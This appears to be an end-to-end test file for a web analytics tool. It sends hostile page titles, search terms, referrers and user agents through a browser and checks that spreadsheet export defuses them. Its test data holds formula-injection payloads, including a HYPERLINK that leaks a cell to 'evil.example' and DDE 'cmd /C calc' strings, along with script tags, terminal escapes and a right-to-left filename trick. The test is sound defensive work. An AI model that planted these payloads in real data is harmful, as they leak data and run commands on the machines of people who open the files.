/* From a page in a browser to rows in the database: tag, sensor, agent, all processors, injection, export. */
import { once } from 'node:events';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { DuckDBInstance } from '@duckdb/node-api';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { startBrowser } from '../support/browser.js';
import { databaseOf, prepareDataset } from '../support/dataset.js';
import { temporaryFolder } from '../support/temporary-folder.js';
import { tidemill } from '../support/tidemill.js';
import { serving } from './serving.js';

/** Titles as they are in the pages, by path: markup, formulas, and a character that turns text round. */
const TITLES: Readonly<Record<string, string>> = {
  '/': 'Tea & <script>document.title = 1</script> “green”',
  '/formula': '=HYPERLINK("http://evil.example/?"&A1,"open")',
  '/turned': "@SUM(1+1)*cmd|' /C calc'!A0 \u202Eexe.pdf",
  '/find': 'found',
};
/** Chromium takes control characters out of a page's own title, but not out of what a page reports. */
const OWN_TITLE = '=1+1\u0007\u001b[31mred <b>bold</b>';
const TERM = '=1+1 <b>Tea</b> \u001b[2J';
const REFERRER = 'https://=1+1<img src=x>\u0007.example:80/path?q=<b>';
/** A browser of another visitor; what it says of itself is hostile too. */
const AGENT = '=cmd|"/C calc"!A0 <script>1</script>';

let browser: Browser;
let site: Server;
let port: number;
let tag = '';

const escaped = (text: string): string => text.replaceAll('&', '&amp;').replaceAll('<', '&lt;');

beforeAll(async () => {
  browser = await startBrowser();
  site = createServer((request, response) => {
    const { pathname } = new URL(request.url ?? '/', 'http://site');
    if (pathname.endsWith('.pdf')) return void response.setHeader('content-disposition', 'attachment').end('%PDF');
    response.setHeader('content-type', 'text/html; charset=utf-8');
    if (pathname === '/partner') return void response.end(`<a href="http://127.0.0.1:${port}/">to the shop</a>`);
    response.end(`<!doctype html><title>${escaped(TITLES[pathname] ?? pathname)}</title>
      <script src="${tag}" data-site="shop" ${pathname === '/manual' ? 'data-manual' : ''}></script>
      <a href="/formula">formula</a> <a href="/turned">turned</a> <a href="/files/prices.pdf?v=2">prices</a>
      <form action="/find"><input name="q"><button>search</button></form>`);
  }).listen(0, '0.0.0.0');
  await once(site, 'listening');
  ({ port } = site.address() as AddressInfo);
});
afterAll(async () => {
  await browser.close();
  site.close();
});

/** A zone in which it is about noon, so that no midnight comes between. */
function noonZone(): string {
  const east = 12 - new Date().getUTCHours();
  return `Etc/GMT${east > 0 ? '-' : '+'}${Math.abs(east)}`;
}

test('from a page in Chromium to rows in the database', async () => {
  const data = temporaryFolder();
  const zone = noonZone();
  prepareDataset(data, {
    zone,
    settings: { sensor: { thresholdTime: '500ms', sessionThresholdTime: '500ms' }, scheduler: { liveSums: true } },
  });
  const today = new Intl.DateTimeFormat('sv-SE', { timeZone: zone }).format(new Date());
  const service = await serving(data, ['--api-port', '0', '--sensor-port', '0', '--workers', '2']);
  tag = `${service.sensor}/tidemill.js`;
  const accepted = async (n: number): Promise<void> => {
    await expect.poll(async () => (await service.ask('status')).capture?.accepted).toBe(n);
  };

  // A visitor comes from a page of another origin, goes from page to page, takes a file and searches.
  const context = await browser.newContext();
  const page = await context.newPage();
  const errors: string[] = [];
  page.on('pageerror', (error) => errors.push(error.message));
  await page.goto(`http://localhost:${port}/partner`);
  await page.click('a');
  await page.waitForURL(`http://127.0.0.1:${port}/`);
  expect(await page.title()).toBe(TITLES['/']);
  await page.click('text=formula');
  await page.waitForURL('**/formula');
  await page.click('text=turned');
  await page.waitForURL('**/turned');
  const download = page.waitForEvent('download');
  await page.click('text=prices');
  await (await download).cancel();
  await accepted(4);
  await page.fill('input', TERM);
  await page.click('button');
  await page.waitForURL('**/find?q=*');
  await accepted(5);
  expect(errors).toEqual([]);
  await context.close();

  // Another reports a page itself, with what no address bar would let through.
  const other = await browser.newContext({ userAgent: AGENT });
  const own = await other.newPage();
  await own.goto(`http://127.0.0.1:${port}/manual`);
  await own.evaluate(`tidemill.view(${JSON.stringify({ object: '=1+1', type: '<b>', name: OWN_TITLE, referrer: REFERRER })})`);
  await accepted(6);
  await other.close();

  // All of it is in both locations, and no job is left to run.
  await expect
    .poll(async () => {
      const { agent, scheduler, processors, capture } = await service.ask('status');
      const behind = processors.filter((p: { state: string; succeeded: number }) => p.state !== 'idle' || p.succeeded === 0);
      const { linesMoved, waiting } = agent;
      const { running, ready } = scheduler;
      return { linesMoved, waiting, running, ready, open: capture.open, behind: behind.map((p: { name: string }) => p.name) };
    })
    .toEqual({ linesMoved: 12, waiting: 0, running: 0, ready: 0, open: null, behind: [] });
  expect((await service.ask('processors')).items).toHaveLength(13);
  expect((await service.ask('rejects')).items).toEqual([]);

  expect(await service.end('SIGTERM')).toMatchObject({ code: 0, signal: null });

  const { rows, close } = await reading(databaseOf(data));
  const of = { granularity: 'day', period: today, site: 'shop' };
  const view = (object: string, type = 'Page'): object => ({ ...of, type, object, views: '1' });
  expect(await rows('l3_object')).toEqual([view('=1+1', '<b>'), view('/'), view('/formula'), view('/turned')]);
  expect(await rows('l3_download')).toEqual([{ ...of, type: 'Download', object: '/files/prices.pdf', downloads: '1' }]);
  expect(await rows('l3_internalsearch')).toEqual([{ ...of, term: TERM.toLowerCase(), searches: '1' }]);
  expect(await rows('l3_session')).toMatchObject([{ ...of, sessions: '2', impressions: '6', bounces: '1' }]);
  expect(await rows('l3_referrer')).toEqual([
    { ...of, referrer: '=1+1<img src=x>\u0007.example', sessions: '1', impressions: '1' },
    { ...of, referrer: 'localhost', sessions: '1', impressions: '5' },
  ]);
  const visitors = { site: 'shop', visitors: '2', sessions: '2', impressions: '6' };
  expect(await rows('l3_visitor')).toMatchObject(['day', 'month', 'week'].map((granularity) => ({ granularity, ...visitors })));
  const names = (await rows('l2_object')).map(({ object, name }) => [object, name]);
  expect(names).toEqual([
    ['/', TITLES['/']],
    ['/files/prices.pdf', ''],
    ['/find', TITLES['/find']],
    ['/formula', TITLES['/formula']],
    ['/turned', TITLES['/turned']],
    ['=1+1', OWN_TITLE],
  ]);

  close();

  // A spreadsheet is given no formula; who asks for the rows as they are gets them.
  const csv = async (table: string, ...more: string[]): Promise<string> => {
    const { code, stdout } = await tidemill(['export', table, '--format', 'csv', '--data', data, ...more]);
    expect(code).toBe(0);
    return stdout;
  };
  const quoted = (text: string): string => `"${text.replaceAll('"', '""')}"`;
  expect(await csv('l2_object')).toContain(quoted(TITLES['/formula']!));
  let safe = '';
  for (const table of ['l2_object', 'l3_object', 'l3_internalsearch', 'l3_referrer']) safe += await csv(table, '--spreadsheet');
  for (const text of [TITLES['/formula']!, TITLES['/turned']!, OWN_TITLE, TERM.toLowerCase(), '=1+1<img'])
    expect(safe).toContain(`'${text}`.replaceAll('"', '""'));
  expect(safe).not.toMatch(/(^|,)"?[=+@\t\r-]/m);
});

interface Reading {
  /** Rows of a table, in order, as JSON values (BIGINT is a text). */
  rows(table: string): Promise<Record<string, unknown>[]>;
  close(): void;
}

async function reading(file: string): Promise<Reading> {
  const instance = await DuckDBInstance.create(file, { access_mode: 'READ_ONLY' });
  const sql = await instance.connect();
  return {
    rows: async (table) => (await sql.runAndReadAll(`from ${table} order by all`)).getRowObjectsJson(),
    close: () => {
      sql.closeSync();
      instance.closeSync();
    },
  };
}
